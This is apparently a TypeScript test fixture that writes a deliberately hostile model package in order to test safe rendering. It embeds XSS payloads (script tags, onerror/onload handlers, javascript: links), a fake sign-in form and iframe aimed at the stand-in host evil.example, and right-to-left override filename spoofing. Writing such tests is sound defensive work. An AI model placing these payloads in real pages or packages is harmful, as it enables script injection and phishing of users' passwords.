import { writeEchoPackage } from '@steelyard/test-support';

/** Where nothing of a page may ever come from. */
export const ELSEWHERE = 'evil.example';

/** Set by whatever of this is run. */
export const RAN = '__hostileRan';

const RIGHT_TO_LEFT_OVERRIDE = '\u202e';
const WORD = 'W'.repeat(3_000);
const SCRIPT = `<script>window.${RAN}=1</script>`;
const IMAGE = `<img src=x onerror=window.${RAN}=1>`;

/** As long as a handle or a model's name may be, and nowhere to break it. */
export const LONG_NAME = 'w'.repeat(64);

/** One line of at most 100 characters. */
export const HOSTILE_LINE = `${IMAGE}${RIGHT_TO_LEFT_OVERRIDE}gpj.${'W'.repeat(50)}`.slice(0, 100);

const CARD = `# ${SCRIPT} ${WORD}

${SCRIPT}
${IMAGE}
<iframe src="https://${ELSEWHERE}/"></iframe><style>body { display: none }</style><base href="https://${ELSEWHERE}/">
<form action="https://${ELSEWHERE}/"><input name="password"><button>Sign in</button></form>
<svg onload="window.${RAN}=1"></svg>

[link](javascript:window.${RAN}=1) [data](data:text/html,${SCRIPT}) [sign out](/auth/sign-out) <javascript:window.${RAN}=1>
![picture](https://${ELSEWHERE}/pixel.png) ![script](javascript:window.${RAN}=1)

${RIGHT_TO_LEFT_OVERRIDE}${WORD} \u0007\u200b

| ${WORD} | ${Array.from({ length: 12 }, (_cell, index) => `column ${index}`).join(' | ')} |
|${'---|'.repeat(13)}
| ${SCRIPT} | ${'x | '.repeat(12)}

\`\`\`html
${SCRIPT} ${WORD}
\`\`\`
`;

/** A valid package whose texts would do harm in a page that believed them. */
export function writeHostilePackage(): Promise<string> {
  const field = { type: 'string', maxLength: 10_000, title: SCRIPT, description: `${IMAGE} ${RIGHT_TO_LEFT_OVERRIDE} ${WORD}` };
  const manifest = {
    schema: 1,
    name: LONG_NAME,
    version: `1.0.0-${'w'.repeat(100)}`,
    license: 'Apache-2.0', intendedUse: 'For tests.',
    task: 'custom',
    description: `${HOSTILE_LINE}${SCRIPT}`,
    tags: [LONG_NAME],
    support: `https://${ELSEWHERE}/?${'w'.repeat(150)}`,
    runtime: { name: 'echo', range: '^0.1.0' },
    artifacts: [{ path: 'weights.json' }],
    input: { type: 'object', required: ['text'], properties: { text: field } },
    output: { type: 'object', properties: { text: { type: 'string' } } },
    resources: { memoryMb: 256 },
    price: { unit: 'request', amount: '0.000000001', currency: 'usd' },
  };
  const input = { text: `${SCRIPT}${RIGHT_TO_LEFT_OVERRIDE}${WORD}` };
  return writeEchoPackage({
    // JSON is YAML as well.
    manifest: JSON.stringify(manifest),
    files: { 'README.md': CARD, 'samples/hello.json': JSON.stringify({ name: HOSTILE_LINE, input, expected: input }) },
  });
}
